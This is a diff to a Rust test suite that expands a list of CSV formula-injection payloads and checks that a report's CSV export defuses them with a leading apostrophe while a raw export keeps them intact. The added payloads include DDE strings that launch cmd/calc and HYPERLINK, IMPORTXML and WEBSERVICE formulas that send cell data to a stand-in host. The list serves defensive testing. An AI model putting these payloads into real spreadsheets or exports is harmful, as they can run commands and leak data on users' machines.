@@ -167,12 +167,24 @@ portable_tests! {
         let payloads = [
             "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "   +1", "\u{a0}=1",
             "\u{feff}=1", "\u{ff1d}1", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}x", "-2+3+cmd|' /C calc'!D2",
+            "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
+            "=IMPORTXML(\"http://x\",\"//a\")", "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C\";\"x\")",
+            "+cmd|'/C calc'!A0", "=\"a\"&\"b\"", "=1,2", "=1;2", "=A1:B2", "=\u{202e}1", "-", "+", "=", "@",
+            "\t", "\u{3000}=1", "\u{2003}@x", "\u{2028}=1", "\u{200b}=1", "\u{200e}-1", "\u{2060}+1",
+            " \u{ff1d}1", "\u{feff} =1", "\u{b}=1", "\u{c}@1",
         ];
+        assert!(payloads.len() >= 40);
         for payload in payloads {
             let named = Table::new(vec![Column::from_numbers(payload, vec![1.5, 2.5])]).unwrap();
             let monitor = Monitor::new(&named, MonitorConfig::default()).unwrap();
-            let rows = cells(&csv(&Report::of(&monitor)));
-            assert!(rows.iter().any(|row| row[4] == format!("'{payload}")), "{payload:?}");
+            let report = Report::of(&monitor);
+            let text = csv(&report);
+            let named = |rows: &[Vec<String>]| rows.iter().filter(|row| !row[4].is_empty()).map(|row| row[4].clone()).collect::<BTreeSet<_>>();
+            let inert = named(&cells(&text)[1..]);
+            assert_eq!(inert, [format!("'{payload}")].into(), "{payload:?}");
+            assert!(text.contains(",\"'"), "an inert cell is quoted: {payload:?}");
+            let exact = named(&cells(&csv_raw(&report))[1..]);
+            assert_eq!(exact, [payload.to_owned()].into(), "the raw export loses nothing");
         }
     }
 
